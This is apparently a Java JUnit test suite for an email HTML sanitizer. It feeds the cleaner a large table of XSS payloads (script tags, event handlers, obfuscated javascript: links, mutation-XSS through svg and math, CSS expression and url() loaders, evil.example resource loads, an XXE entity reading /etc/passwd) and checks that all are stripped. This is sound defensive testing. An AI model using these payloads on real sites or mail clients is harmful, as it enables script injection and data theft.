package com.logisav.mail.core.internal.html;

import static com.logisav.mail.core.internal.html.AllowListAssert.assertHoldsOnlyAllowed;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Ways to smuggle something that runs, loads or covers past a cleaner. Each is followed by words that must arrive. */
class HtmlCleanerAttackTest {

    private static final List<String> SCRIPTS = List.of(
        "<script>steal()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<ScRiPt\n>steal()</sCrIpT\t>",
        "<script/x>steal()</script>", "<script>steal()", "<script><!--\nsteal()//--></script>", "<<script>steal();//<</script>",
        "<scr<script>ipt>steal()</scr</script>ipt>", "<script type=\"text/plain\">x</script><script>steal()</script>",
        "<script>'</script><img src=x onerror=steal()>'</script>");

    private static final List<String> HANDLERS = List.of(
        "<img src=x onerror=steal()>", "<img src=x OnErRoR = 'steal()'>", "<img/src=x/onerror=steal()>", "<img src=x onerror\n=steal()>",
        "<img src=x onerror&#61;steal()>", "<img \"\"\"><b onmouseover=steal()>x</b>\">", "<div onclick=\"steal()\" ONLOAD=steal()>x</div>",
        "<p onpointerrawupdate=steal()>x</p>", "<body onload=steal()>", "<a href=https://ok.example onfocus=steal() autofocus>x</a>",
        "<b/onmouseover=steal()>x</b>", "<table background=\"javascript:steal()\" onresize=steal()><tr><td background=x>y</table>",
        "<marquee onstart=steal()>x</marquee>", "<details open ontoggle=steal()>x</details>", "<video><source onerror=steal()></video>",
        "<input onfocus=steal() autofocus>", "<x onclick=steal()>x</x>");

    private static final List<String> LINKS = List.of(
        "<a href=javascript:steal()>x</a>", "<a href=\"JaVaScRiPt:steal()\">x</a>", "<a href=\" \u0001javascript:steal()\">x</a>",
        "<a href=\"java\tscript:steal()\">x</a>", "<a href=\"java\n\rscript:steal()\">x</a>", "<a href=\"java&#x09;script:steal()\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;steal()\">x</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;steal()\">x</a>", "<a href=\"javascript&colon;steal()\">x</a>",
        "<a href=\"java&NewLine;script&Tab;&colon;steal()\">x</a>", "<a href=\"\u00A0javascript:steal()\">x</a>",
        "<a href=\"\u2028javascript:steal()\">x</a>", "<a href=\"java\u200Bscript:steal()\">x</a>",
        "<a href=\"\uFEFFjavascript:steal()\">x</a>", "<a href=\"j\u0000avascript:steal()\">x</a>", "<a href='vbscript:msgbox(1)'>x</a>",
        "<a href='livescript:steal()'>x</a>", "<a href='data:text/html,<script>steal()</script>'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+'>x</a>", "<a href='feed:javascript:steal()'>x</a>",
        "<a href='view-source:javascript:steal()'>x</a>", "<a href='https:javascript:steal()'>x</a>", "<a href='file:///etc/passwd'>x</a>",
        "<a href='\\\\evil.example\\share'>x</a>", "<a href='//evil.example'>x</a>", "<a href='{{x}}javascript:steal()'>x</a>",
        "<a href='{{a}}\njavascript:{{b}}'>x</a>", "<a xlink:href='javascript:steal()' ping=https://evil.example>x</a>");

    private static final List<String> LOADERS = List.of(
        "<img src=https://evil.example/pixel.gif>", "<img srcset='https://evil.example/a.png 2x'>",
        "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9c3RlYWwoKT4='>", "<img src='data:text/html;base64,QUJD'>",
        "<img src='data:image/png,not-base64'>", "<img src=javascript:steal()>", "<img src='cid:x\" onerror=\"steal()'>",
        "<img lowsrc=javascript:steal() dynsrc=javascript:steal()>", "<iframe src=javascript:steal()></iframe>",
        "<iframe srcdoc='<script>steal()</script>'></iframe>", "<object data=javascript:steal()></object>",
        "<embed src=https://evil.example/x.swf>", "<applet code=Evil.class></applet>",
        "<frameset><frame src=javascript:steal()></frameset>", "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import 'https://evil.example/x.css';</style>", "<meta http-equiv=refresh content='0;url=javascript:steal()'>",
        "<base href='javascript:/a/-steal()//'><a href=x>x</a>", "<picture><source srcset=https://evil.example/x></picture>",
        "<audio src=https://evil.example/x autoplay></audio>",
        "<form action=https://evil.example><input name=password><button formaction=javascript:steal()>x</button></form>",
        "<isindex action=javascript:steal() type=image>", "<portal src=https://evil.example></portal>");

    private static final List<String> MUTATIONS = List.of(
        "<svg onload=steal()>", "<svg><script>steal()</script></svg>", "<svg><a xlink:href=javascript:steal()><text>x</text></a></svg>",
        "<svg><animate onbegin=steal() attributeName=x></svg>", "<svg><style><img src=x onerror=steal()></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=steal()>\">",
        "<svg><foreignObject><iframe src=javascript:steal()></iframe></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=steal()&gt;\">",
        "<math href=javascript:steal()>x</math>",
        "<math><annotation-xml encoding=text/html><script>steal()</script></annotation-xml></math>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=steal() src>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=steal()>\">",
        "<textarea><p title=\"</textarea><img src=x onerror=steal()>\"></textarea>",
        "<title><p title=\"</title><img src=x onerror=steal()>\"></title>", "<template><script>steal()</script></template>",
        "<xmp><p title=\"</xmp><img src=x onerror=steal()>\"></xmp>",
        "<noembed><img title=\"</noembed><img src=x onerror=steal()>\"></noembed>",
        "<noframes><p title=\"</noframes><script>steal()</script>\"></noframes>",
        "<select><style></select><img src=x onerror=steal()></style>", "<!--><img src=x onerror=steal()>-->",
        "<!--[if gte IE 4]><script>steal()</script><![endif]-->", "<![CDATA[<img src=x onerror=steal()>]]>",
        "<?xml version=\"1.0\"?><?php steal() ?>", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
        "<p title=\"`onmouseover=steal()`\">x</p>", "<p title='\"><script>steal()</script>'>x</p>",
        "<listing>&lt;img src=1 onerror=steal()&gt;</listing>",
        "<table><caption><svg><title><template><style></title></style><img src onerror=steal()></table>",
        "<a href=\"https://ok.example/?x=&quot;onmouseover=steal()\">x</a>");

    private static final List<String> STYLES = List.of(
        "<p style=\"width: expression(steal())\">x</p>", "<p style=\"width: exp/**/ression(steal())\">x</p>",
        "<p style=\"width: e\\78 pression(steal())\">x</p>", "<p style=\"background: url(javascript:steal())\">x</p>",
        "<p style=\"background:url&#40;https://evil.example/x)\">x</p>", "<p style=\"background: u\\72l(https://evil.example)\">x</p>",
        "<p style=\"background: URL ( 'https://evil.example' )\">x</p>",
        "<p style=\"color: red; background-image: image-set('https://evil.example/x' 1x)\">x</p>",
        "<p style=\"list-style: url(https://evil.example)\">x</p>", "<p style=\"behavior: url(x.htc)\">x</p>",
        "<p style=\"-moz-binding: url(x.xml#y)\">x</p>", "<p style=\"-m\\6Fz-binding: url(x)\">x</p>",
        "<p style=\"position: fixed; top: 0; left: 0; width: 9999px\">x</p>", "<p style=\"p\\osition: fixed\">x</p>",
        "<p style=\"color: red;;;position/**/:/**/absolute\">x</p>", "<p style=\"margin: -9999px\">x</p>",
        "<p style=\"@import 'https://evil.example/x.css'\">x</p>", "<p style=\"color: red; }*{position:fixed\">x</p>",
        "<p style=\"font-family: 'a;position:fixed\">x</p>", "<p style=\"font-family: 'a\nb'; position: fixed; x: '\">x</p>",
        "<p style=\"font-family: '</style><script>steal()</script>'\">x</p>", "<p style=\"color: rgb(url(https://evil.example))\">x</p>",
        "<p style=\"color: var(--x); --x: url(https://evil.example)\">x</p>", "<p style=\"content: attr(title); color: red\">x</p>",
        "<p style=\"filter: progid:DXImageTransform.Microsoft.Alpha()\">x</p>", "<p style=\"/*/color: red/*/; position: fixed\">x</p>",
        "<p style=\"color\u00A0: red; po\u0000sition: fixed\">x</p>");

    static Stream<String> attacks() {
        return Stream.of(SCRIPTS, HANDLERS, LINKS, LOADERS, MUTATIONS, STYLES).flatMap(List::stream);
    }

    @Test
    void the_table_is_as_long_as_promised() {
        assertThat(attacks()).hasSizeGreaterThanOrEqualTo(60).doesNotHaveDuplicates();
    }

    @ParameterizedTest
    @ValueSource(strings = {"<script>x</script>", "<b onclick=x>y</b>", "<a href=javascript:x>y</a>", "<img src=https://x>", "<!-- x -->",
        "<p style='position: fixed'>x</p>", "<p style='width: expression(x)'>x</p>", "<svg></svg>"})
    void the_assertion_sees_what_it_looks_for(String planted) {
        assertThatThrownBy(() -> assertHoldsOnlyAllowed(planted)).isInstanceOf(AssertionError.class);
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void nothing_but_the_allowed_is_left(String attack) {
        HtmlCleaner.Cleaned cleaned = HtmlCleaner.clean("<p>before</p>" + attack);

        assertHoldsOnlyAllowed(cleaned.html());
        assertThat(cleaned.html()).startsWith("<p>before</p>");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void what_is_left_is_left_again(String attack) {
        String once = HtmlCleaner.clean(attack).html();

        HtmlCleaner.Cleaned twice = HtmlCleaner.clean(once);

        assertThat(twice.html()).isEqualTo(once);
        assertThat(twice.removed()).isEmpty();
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void an_attack_inside_an_attribute_of_an_allowed_element_is_text(String attack) {
        String inTitle = "<b title=\"" + attack.replace("&", "&amp;").replace("\"", "&quot;") + "\">x</b>";

        String cleaned = HtmlCleaner.clean(inTitle).html();

        assertHoldsOnlyAllowed(cleaned);
        assertThat(cleaned).startsWith("<b title=").endsWith(">x</b>");
    }

    /** A pattern that goes deeper for each turn of a group ends in an error that no guard catches. */
    @ParameterizedTest
    @ValueSource(strings = {"href", "src", "style", "title", "align", "width"})
    void a_value_as_long_as_a_body_overflows_nothing(String attribute) {
        for (String turn : List.of(".a.bb", " ", "a:b;", "-", "{{a}}", "(", "/*", "'")) {
            String value = "{{a" + turn.repeat(300_000 / turn.length()) + "}}";

            assertThat(HtmlCleaner.clean("<a " + attribute + "=\"" + value + "\">words</a>").html()).as(turn).contains("words");
        }
    }

    @Test
    void a_merge_field_in_a_link_stays_however_its_name_is_written_unless_no_link_is_as_long() {
        String longest = "{{" + "a.bb.".repeat(1_637) + "aaa}}";

        assertThat(longest).hasSize(8_192);
        assertThat(HtmlCleaner.clean("<a href=\"" + longest + "\">x</a>").html()).isEqualTo("<a href=\"" + longest + "\">x</a>");
        assertThat(HtmlCleaner.clean("<a href=\"" + longest.replace("aaa", "aaaa") + "\">x</a>").html()).isEqualTo("x");
    }
}
